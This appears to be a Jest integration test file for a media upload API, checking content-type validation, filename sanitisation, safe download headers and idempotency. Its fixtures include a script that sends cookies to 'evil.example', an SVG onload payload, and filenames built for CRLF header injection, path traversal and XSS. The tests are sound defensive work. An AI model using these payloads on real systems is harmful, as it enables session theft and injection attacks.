import { createHash, randomUUID } from 'node:crypto';
import { genuine, type GenuineName, plainZip } from '../fixtures/documents';
import { field, filePart, form, rawRequest, requestHead, uploadHead, type RawAnswer } from '../support/raw';
import { ApiClient, assertInvariants, TestSystem, waitFor, type Answer } from '../support/system';

jest.setTimeout(60_000);

const MEDIA = '/api/upload/media';
const PHOTO = genuine('photo.jpg');
const HTML = Buffer.from('<!doctype html><script>fetch("//evil.example/?"+document.cookie)</script>');

/** Genuine ones, as programs write them, with the kind and the type that they go out as. */
const TAKEN: [kind: string, fixture: GenuineName, name: string, type: string][] = [
  ['video', 'clip.mp4', 'clip.mp4', 'video/mp4'],
  ['video', 'fragmented.mp4', 'FRAGMENTED.MP4', 'video/mp4'],
  ['video', 'clip.mov', 'Clip.MOV', 'video/quicktime'],
  ['video', 'clip.webm', 'clip.webm', 'video/webm'],
  ['video', 'clip.mkv', 'clip.Mkv', 'video/x-matroska'],
  ['photo', 'photo.jpg', 'IMG_0001.JPG', 'image/jpeg'],
  ['photo', 'photo.jpg', 'photo.jpeg', 'image/jpeg'],
  ['photo', 'picture.png', 'picture.png', 'image/png'],
  ['photo', 'picture.webp', 'picture.webp', 'image/webp'],
  ['photo', 'picture.heic', 'IMG_0002.HEIC', 'image/heic'],
  ['camera', 'picture.heic', 'IMG_0003.heic', 'image/heic'],
  ['camera', 'clip.mov', 'IMG_0004.mov', 'video/quicktime'],
];

let system: TestSystem;
let ops: ApiClient;
const fileIds = new Map<string, string>();

beforeAll(async () => {
  system = await TestSystem.start({ apis: 2 });
  ops = await system.client('ops');
}, 60_000);
afterAll(() => system?.stop(), 30_000);

interface Medium {
  name: string;
  type?: string;
  fields?: Record<string, string | string[]>;
  uploadId?: string;
  headers?: Record<string, string>;
}

function send(bytes: Buffer, { type = 'application/octet-stream', ...rest }: Medium): Promise<Answer> {
  return ops.upload(bytes, { path: MEDIA, type, ...rest });
}

/** The parts as they are given, in their order. */
async function sendParts(...parts: Buffer[]): Promise<RawAnswer> {
  const body = form(...parts);
  return (await rawRequest(
    system.url,
    uploadHead({ path: MEDIA, length: body.length, token: ops.token }),
    body,
  ))!;
}

async function expectRefused(answer: Answer, uploadId: string, code: string): Promise<void> {
  expect([answer.status, answer.body.code]).toEqual([415, code]);
  const [left] = await system.query(
    `SELECT (SELECT count(*)::int FROM upload_parts WHERE upload_id = $1) AS parts,
            (SELECT count(*)::int FROM objects WHERE key LIKE 'staging/' || $1 || '/%' AND state <> 'dead') AS objects,
            (SELECT count(*)::int FROM files JOIN uploads ON uploads.file_id = files.id WHERE uploads.id = $1) AS files`,
    [uploadId],
  );
  expect(left).toEqual({ parts: 0, objects: 0, files: 0 });
}

describe('a genuine medium', () => {
  it.each(TAKEN)('U16 as a %s: %s, named %s', async (kind, fixture, name, type) => {
    const bytes = genuine(fixture);
    const answer = await send(bytes, { name, fields: { fileType: kind }, type: type.toUpperCase() });
    const { uploadId, fileId } = answer.body;
    expect([answer.status, answer.body]).toEqual([
      201,
      {
        success: true,
        message: expect.any(String),
        uploadId,
        fileId,
        fileName: name,
        fileType: kind,
        fileSize: bytes.length,
        fileUrl: `${system.env.PUBLIC_URL}/api/files/${fileId}/content`,
        status: expect.stringMatching(/^(received|encrypting|completed)$/),
      },
    ]);
    expect(answer.headers.get('location')).toBe(`/api/files/${fileId}`);
    fileIds.set(name, fileId);
    await ops.waitForStatus(uploadId, 'completed');
    const { body } = await ops.get(`/api/files/${fileId}`);
    expect(body).toMatchObject({
      name,
      category: 'media',
      fileType: kind,
      mediaType: type,
      size: bytes.length,
      sha256: createHash('sha256').update(bytes).digest('hex'),
    });
  });

  it('U16 is given back byte by byte, as an attachment', async () => {
    for (const [, fixture, name, type] of TAKEN) {
      const answer = await ops.get(`/api/files/${fileIds.get(name)}/content`);
      expect(answer.bytes.equals(genuine(fixture))).toBe(true);
      expect(answer.headers.get('content-type')).toBe(type);
      expect(answer.headers.get('content-disposition')).toMatch(/^attachment; /);
    }
  });

  it('U16 says where it was sent, and is found there', async () => {
    const [chatId, groupId] = [`chat ${randomUUID()}`, 'groupe d’été 🏖'];
    const fields = {
      fileType: 'photo',
      title: 'Beach',
      description: 'Low tide',
      chatId,
      groupId,
      tags: 'a,b',
    };
    const { body: made } = await send(PHOTO, { name: 'beach.jpg', fields });
    await ops.waitForStatus(made.uploadId, 'completed');
    const found = await ops.get(`/api/files?chatId=${encodeURIComponent(chatId)}`);
    expect(found.body.items).toEqual([
      expect.objectContaining({ id: made.fileId, title: 'Beach', description: 'Low tide', chatId, groupId }),
    ]);
    const group = await ops.get(`/api/files?groupId=${encodeURIComponent(groupId)}`);
    expect(group.body.items.map(({ id }: { id: string }) => id)).toEqual([made.fileId]);
    const elsewhere = await ops.get(`/api/files?chatId=${encodeURIComponent(groupId)}`);
    expect(elsewhere.body.items).toEqual([]);
  });

  it.each([
    ['before', (file: Buffer) => [field('fileType', 'video'), file]],
    ['behind', (file: Buffer) => [file, field('fileType', 'video')]],
  ])('U16 may say what it is %s its bytes', async (_where, parts) => {
    const clip = filePart(genuine('clip.mp4'), { fileName: 'a.mp4', type: 'video/mp4' });
    const answer = await sendParts(...parts(clip));
    expect([answer.status, answer.json().fileType]).toEqual([201, 'video']);
    await ops.waitForStatus(answer.json().uploadId, 'completed');
    expect((await ops.get(`/api/files/${answer.json().fileId}`)).body.fileType).toBe('video');
  });
});

describe('a medium that lies', () => {
  const half = (name: GenuineName): Buffer => genuine(name).subarray(0, genuine(name).length >> 1);
  it.each<[title: string, kind: string, name: string, bytes: Buffer, type?: string]>([
    ['a film named jpg', 'photo', 'a.jpg', genuine('clip.mp4')],
    ['a photo named mp4', 'video', 'a.mp4', PHOTO],
    ['a photo named heic', 'camera', 'a.heic', PHOTO],
    ['a film named heic', 'camera', 'a.heic', genuine('clip.mp4')],
    ['a picture named mov', 'video', 'a.mov', genuine('picture.heic')],
    ['Matroska named webm', 'video', 'a.webm', genuine('clip.mkv')],
    ['a film named mkv', 'video', 'a.mkv', genuine('clip.mp4')],
    ['HTML named jpg', 'photo', 'a.jpg', HTML],
    ['HTML named webp', 'photo', 'a.webp', HTML],
    ['HTML named mp4', 'video', 'a.mp4', HTML],
    ['HTML behind the beginning of a photo', 'photo', 'a.jpg', Buffer.concat([PHOTO.subarray(0, 4), HTML])],
    ['a program named mov', 'camera', 'a.mov', Buffer.from('MZ\x90\0')],
    ['an archive named png', 'photo', 'a.png', plainZip()],
    ['an archive behind a photo', 'photo', 'a.jpg', Buffer.concat([PHOTO, plainZip()])],
    ['half a film', 'video', 'a.mp4', half('clip.mp4')],
    ['half a QuickTime film', 'video', 'a.mov', half('clip.mov')],
    ['half a WebM film', 'video', 'a.webm', half('clip.webm')],
    ['half a PNG picture', 'photo', 'a.png', half('picture.png')],
    ['half a WebP picture', 'photo', 'a.webp', half('picture.webp')],
    ['half a HEIC picture', 'photo', 'a.heic', half('picture.heic')],
    ['the header of a photo alone', 'photo', 'a.jpg', PHOTO.subarray(0, 20)],
    ['the header of a film alone', 'video', 'a.mkv', genuine('clip.mkv').subarray(0, 20)],
    ['three bytes', 'video', 'a.mp4', Buffer.from('\0\0\0')],
    ['a photo declared as a film', 'camera', 'a.jpg', PHOTO, 'video/mp4'],
    ['a photo declared as HTML', 'photo', 'a.jpg', PHOTO, 'text/html'],
    ['a picture declared as SVG', 'photo', 'a.png', genuine('picture.png'), 'image/svg+xml'],
  ])('U16 %s', async (...[, kind, name, bytes, type]) => {
    const uploadId = randomUUID();
    const answer = await send(bytes, { name, type, fields: { fileType: kind }, uploadId });
    await expectRefused(answer, uploadId, 'CONTENT_MISMATCH');
  });

  it.each([
    ['a film as a photo', 'photo', 'clip.mp4', genuine('clip.mp4')],
    ['a photo as a film', 'video', 'a.jpg', PHOTO],
    ['a document', 'photo', 'report.docx', genuine('report.docx')],
    ['a drawing with a script', 'photo', 'a.svg', Buffer.from('<svg onload="alert(1)"/>')],
    ['a film of another kind', 'video', 'a.avi', Buffer.from('RIFF')],
    ['a page behind a photo’s name', 'photo', 'a.jpg.html', HTML],
    ['a photo with a dot at its end', 'photo', 'a.jpg.', PHOTO],
  ])('U16 %s is none of the policy', async (_title, kind, name, bytes) => {
    const uploadId = randomUUID();
    const answer = await send(bytes, { name, fields: { fileType: kind }, uploadId });
    await expectRefused(answer, uploadId, 'UNSUPPORTED_FILE_TYPE');
    expect(await system.query('SELECT 1 FROM uploads WHERE id = $1', [uploadId])).toEqual([]);
  });

  it('U16 a film that turns out to be called a photo behind its bytes leaves none of them', async () => {
    const clip = filePart(genuine('clip.mp4'), { fileName: 'a.mp4', type: 'video/mp4' });
    const answer = await sendParts(clip, field('fileType', 'photo'));
    expect([answer.status, answer.json().code]).toEqual([415, 'UNSUPPORTED_FILE_TYPE']);
  });

  it.each<[title: string, parts: Buffer[], detail: string]>([
    ['is missing', [], 'is required'],
    ['is empty', [field('fileType', '')], 'is required'],
    ['is unknown', [field('fileType', 'audio')], 'must be one of video, photo, camera'],
    ['is of another case', [field('fileType', 'Photo')], 'must be one of video, photo, camera'],
    ['is there twice', [field('fileType', 'photo'), field('fileType', 'photo')], 'must be there once'],
  ])('U16 is refused when fileType %s', async (_title, fields, detail) => {
    const photo = filePart(PHOTO, { fileName: 'a.jpg', type: 'image/jpeg' });
    for (const parts of [
      [...fields, photo],
      [photo, ...fields],
    ]) {
      const answer = await sendParts(...parts);
      expect([answer.status, answer.json().code, answer.json().errors]).toEqual([
        400,
        'VALIDATION_FAILED',
        [{ pointer: 'fileType', detail }],
      ]);
    }
  });

  it.each([
    'empty.mp4',
    'empty.mov',
    'empty.webm',
    'empty.mkv',
    'empty.jpg',
    'empty.png',
    'empty.heic',
    'empty.webp',
  ])('U13 %s cannot be empty', async (name) => {
    const answer = await send(Buffer.alloc(0), { name, fields: { fileType: 'camera' } });
    expect([answer.status, answer.body.code]).toEqual([415, 'CONTENT_MISMATCH']);
  });
});

describe('names of media', () => {
  it.each([
    ['a quote and a parameter', 'a"; filename="evil.exe.jpg'],
    ['CR LF and a header', 'a\r\nSet-Cookie: session=evil\r\n\r\n.jpg'],
    ['an override of direction', 'photo\u202Egpj.jpg'],
    ['a way up', '../../etc/cron.d/evil.jpg'],
    ['an emoji', '🏖.jpg'],
    ['markup', '<img src=x onerror=alert(1)>.jpg'],
  ])('L09 %s', async (_title, name) => {
    const taken = await sendParts(
      field('fileType', 'photo'),
      filePart(PHOTO, { fileName: name, type: null }),
    );
    expect(taken.status).toBe(201);
    await ops.waitForStatus(taken.json().uploadId, 'completed');
    const head = requestHead(`GET /api/files/${taken.json().fileId}/content`, [
      ['Host', 'waybill.test'],
      ['Authorization', `Bearer ${ops.token}`],
    ]);
    const answer = (await rawRequest(system.url, head))!;
    expect(answer.all('Set-Cookie')).toEqual([]);
    const [disposition, ...others] = answer.all('Content-Disposition');
    expect(others).toEqual([]);
    expect(disposition).toMatch(
      /^attachment; filename="[\x20-\x7e]*"(; filename\*=UTF-8''[\w!#$&+.^`|~%-]+)?$/,
    );
    expect(disposition).not.toMatch(/[/\\]|%2F|%5C|%0[0-9A-F]|%E2%80%AE/i);
  });

  it.each(TAKEN.filter(([, , name]) => !name.startsWith('IMG_000')))(
    'L10 a %s (%s) is handed out so that nobody runs it',
    async (_kind, _fixture, name, type) => {
      const link = await ops.downloadLink(fileIds.get(name)!);
      for (const query of ['', '?inline=1', '?preview']) {
        const answer = await system.anonymous().get(link + query, { accept: 'text/html' });
        expect([answer.status, answer.headers.get('content-type')]).toEqual([200, type]);
        expect(answer.headers.get('content-disposition')).toMatch(/^attachment; /);
        expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
        expect(answer.headers.get('content-security-policy')).toMatch(/sandbox; default-src 'none'/);
        expect(answer.headers.get('cross-origin-resource-policy')).toBe('same-origin');
      }
    },
  );
});

describe('an Idempotency-Key at the door for media', () => {
  const fields = { fileType: 'photo' };
  const withKey = (key: string) => ({ name: 'a.jpg', fields, headers: { 'idempotency-key': key } });

  it('U21 makes one file of ten requests at once, at two instances', async () => {
    const key = randomUUID();
    const before = await files();
    const answers = await Promise.all(
      Array.from({ length: 10 }, (_, index) =>
        ops.at(system.urls[index % 2]!).upload(PHOTO, { path: MEDIA, type: 'image/jpeg', ...withKey(key) }),
      ),
    );
    const made = answers.filter(({ status }) => status === 201);
    expect(new Set(made.map(({ body }) => body.fileId)).size).toBe(1);
    for (const { status, body } of answers.filter((answer) => !made.includes(answer)))
      expect([status, body.code]).toEqual([409, 'REQUEST_IN_PROGRESS']);
    const again = await send(PHOTO, { ...withKey(key), type: 'image/jpeg' });
    expect([again.status, again.body, again.headers.get('idempotency-replayed')]).toEqual([
      201,
      made[0]!.body,
      'true',
    ]);
    await ops.waitForStatus(made[0]!.body.uploadId, 'completed');
    expect(await files()).toBe(before + 1);
  });

  it.each<[string, Buffer, Record<string, string>]>([
    ['other bytes', genuine('picture.png').subarray(), { fileType: 'photo' }],
    ['another kind', PHOTO, { fileType: 'camera' }],
    ['another chat', PHOTO, { fileType: 'photo', chatId: 'c' }],
  ])('U21 is refused for %s', async (_what, bytes, otherFields) => {
    const key = randomUUID();
    expect((await send(PHOTO, withKey(key))).status).toBe(201);
    const name = bytes === PHOTO ? 'a.jpg' : 'a.png';
    const answer = await send(bytes, { ...withKey(key), name, fields: otherFields });
    expect([answer.status, answer.body.code]).toEqual([422, 'IDEMPOTENCY_KEY_REUSED']);
  });

  async function files(): Promise<number> {
    const [row] = await system.query('SELECT count(*)::int AS n FROM files');
    return row.n;
  }
});

it('U16 media leave the house in order', async () => {
  await waitFor('all to be sealed', async () => {
    const rows = await system.query(
      `SELECT 1 FROM uploads WHERE status NOT IN ('completed', 'failed', 'cancelled')`,
    );
    return rows.length === 0;
  });
  await system.waitUntilSwept();
  await assertInvariants(system);
});
